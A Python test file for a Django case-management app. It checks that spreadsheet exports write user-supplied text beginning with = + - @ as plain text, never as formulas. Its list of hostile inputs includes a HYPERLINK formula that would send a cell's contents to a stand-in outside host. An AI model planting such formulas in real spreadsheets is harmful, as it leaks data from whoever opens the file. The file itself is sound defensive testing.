"""No exported workbook holds a formula: every XLSX the product hands out is written by
`core.spreadsheets`, and a name, ID number, organisation name or goal that begins with = + - @
is a text cell that reads back exactly as it was written."""

from __future__ import annotations

import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings

from aftercare.accounts.roles import Role
from aftercare.cases.case_import import template_workbook
from aftercare.core import spreadsheets
from aftercare.interop import exporter
from aftercare.reports import exports
from tests.conftest import actor, member
from tests.factories import ConsentFactory, GoalFactory, SurvivorFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://example.org/?"&A1,"Open")',
    "+254700000000",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
]


def formula_cells(content: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_the_htcds_export_writes_hostile_text_as_text(org_a):
    org_a.name = HOSTILE[3]
    org_a.save()
    survivor = SurvivorFactory(
        organisation=org_a,
        given_name=HOSTILE[0],
        family_name=HOSTILE[4],
        id_number=HOSTILE[2],
        phone=HOSTILE[1],
    )
    ConsentFactory(survivor=survivor, purpose="referral", granted=True, method="verbal")
    GoalFactory(survivor=survivor, domain="housing", description=HOSTILE[4], actions=HOSTILE[3])
    content = exporter.to_xlsx(exporter.export_cases(actor(member(org_a, Role.SUPERVISOR))))
    assert formula_cells(content) == []
    book = openpyxl.load_workbook(io.BytesIO(content))
    cases = {
        cell.value: book["Cases"].cell(row=3, column=cell.column).value for cell in book["Cases"][1]
    }
    assert (
        cases["org_Name"],
        cases["prs_FirstName"],
        cases["prs_SecondName"],
        cases["aft_IdNumber"],
    ) == (HOSTILE[3], HOSTILE[0], HOSTILE[4], HOSTILE[2])
    plan = {
        cell.value: book["SupportPlan"].cell(row=3, column=cell.column).value
        for cell in book["SupportPlan"][1]
    }
    assert (plan["spl_Objectives"], plan["spl_ActionPlan"]) == (HOSTILE[4], HOSTILE[3])


def test_the_reports_writer_and_the_import_template_hold_no_formula():
    assert formula_cells(exports.workbook([("Caseload", HOSTILE, [HOSTILE, HOSTILE[::-1]])])) == []
    assert formula_cells(template_workbook()) == []


def test_the_writer_refuses_a_workbook_with_a_formula_all_the_same():
    book = spreadsheets.new_workbook()
    book.create_sheet("x")["A1"] = "=1+1"
    with pytest.raises(ValueError, match="formula"):
        spreadsheets.save(book)


def test_every_workbook_is_written_by_the_one_writer():
    """No module but core/spreadsheets.py makes or saves a workbook itself."""
    root = Path(settings.BASE_DIR) / "aftercare"
    makers = re.compile(r"\bWorkbook\(|\.save\((out|buffer|io\.)")
    found = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "spreadsheets.py"
        and "migrations" not in path.parts
        and makers.search(path.read_text())
    ]
    assert found == []
